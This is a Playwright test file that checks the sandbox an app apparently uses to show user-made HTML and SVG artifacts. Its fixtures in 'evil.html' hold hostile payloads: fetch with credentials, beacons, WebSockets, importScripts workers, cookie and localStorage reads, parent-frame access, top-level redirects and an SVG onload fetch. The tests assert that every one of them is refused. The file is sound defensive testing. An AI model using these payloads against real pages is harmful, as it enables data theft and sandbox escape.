import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '../fixtures';
import { openFile, runWith } from '../run-artifacts';

test.describe('what others made', () => {
  // The browser says of each way out that it is shut.
  test.use({ allowedErrors: /./ });

  let outside: Server;
  let heard: string[];
  let address: string;
  test.beforeAll(async () => {
    outside = createServer((request, response) => {
      heard.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*').end('<p>outside</p>');
    });
    await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
    address = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  });
  test.beforeEach(() => {
    heard = [];
  });
  test.afterAll(() => void outside.close());

  test('runs in a box that reaches no server, ours or another', async ({ page, api, baseURL }) => {
    const attempts = (where: string) => `
      <link rel="stylesheet" href="${where}/style"><link rel="prefetch" href="${where}/prefetch">
      <img src="${where}/img"><script src="${where}/script"></script><iframe src="${where}/frame"></iframe>
      <style>body { background: url("${where}/css") }</style><video src="${where}/video"></video>
      <form id="f" action="${where}/form"></form><a id="a" href="${where}/link" ping="${where}/ping" target="_blank">x</a>
      <p id="said">nothing yet</p>
      <script>
        const tried = [];
        const attempt = (name, work) => { try { work(); tried.push(name) } catch (error) { tried.push(name + ' refused') } };
        attempt('fetch', () => fetch('${where}/fetch', { mode: 'no-cors', credentials: 'include' }).catch(() => {}));
        attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${where}/xhr'); x.send() });
        attempt('beacon', () => navigator.sendBeacon('${where}/beacon', 'x'));
        attempt('socket', () => new WebSocket('${where.replace('http', 'ws')}/socket'));
        attempt('events', () => new EventSource('${where}/events'));
        attempt('worker', () => new Worker(URL.createObjectURL(new Blob(["importScripts('${where}/worker')"]))));
        attempt('import', () => import('${where}/module').catch(() => {}));
        attempt('form', () => f.submit());
        attempt('click', () => a.click());
        attempt('window', () => window.open('${where}/window'));
        attempt('top', () => { top.location = '${where}/top' });
        attempt('cookie', () => document.cookie);
        attempt('storage', () => localStorage.length);
        attempt('parent', () => parent.document.title);
        said.textContent = 'tried ' + tried.join(', ');
      </script>`;
    const place = await runWith(api, {
      'evil.html': attempts(address),
      'inward.html': attempts(baseURL ?? ''),
    });
    // Of what is refused the browser tells too; what got through has an answer.
    const answered: string[] = [];
    page.on('response', (response) => {
      if (
        /\/(style|prefetch|img|script|frame|css|video|form|link|fetch|xhr|beacon|socket|events|worker|module|window|top)$/.test(
          response.url(),
        )
      )
        answered.push(response.url());
    });
    await page.goto(place);
    for (const name of ['evil', 'inward']) {
      await openFile(page, name);
      const said = page.frameLocator('iframe[title$=".html"]').locator('#said');
      await expect(said).toContainText('cookie refused');
      await expect(said).toContainText('storage refused');
      await expect(said).toContainText('parent refused');
      await expect(said).toContainText('top');
      await expect(page).toHaveURL(/tab=artifacts/);
    }
    // What is refused is refused before it is sent: by now anything would have come.
    await page.getByRole('radio', { name: 'Source' }).click();
    await expect(page.getByText('nothing yet')).toBeVisible();
    expect(heard).toEqual([]);
    expect(answered).toEqual([]);
  });

  for (const [way, html] of [
    ['by script', (where: string) => `<script>location = '${where}/led-away'</script>`],
    ['by its head', (where: string) => `<meta http-equiv="refresh" content="0; url=${where}/led-away">`],
    ['by a link', (where: string) => `<a id="a" href="${where}/led-away">x</a><script>a.click()</script>`],
  ] as const) {
    test(`cannot lead its frame elsewhere ${way}`, async ({ page, api }) => {
      await page.goto(await runWith(api, { 'led.html': html(address) }));
      const refused = page.waitForEvent('console', (message) => /frame-src|Framing/.test(message.text()));
      await openFile(page, 'led');
      await refused;
      expect(heard).toEqual([]);
      await expect(page).toHaveURL(/tab=artifacts/);
    });
  }

  test('in a drawing does not run either', async ({ page, api }) => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="fetch('${address}/svg')"><image href="${address}/image"/><script>fetch('${address}/script')</script></svg>`;
    await page.goto(await runWith(api, { 'drawing.svg': svg }));
    await openFile(page, 'drawing');
    const drawing = page.getByRole('img', { name: 'drawing.svg' });
    await expect.poll(() => drawing.evaluate((shown: HTMLImageElement) => shown.naturalWidth)).toBe(10);
    expect(heard).toEqual([]);
  });
});
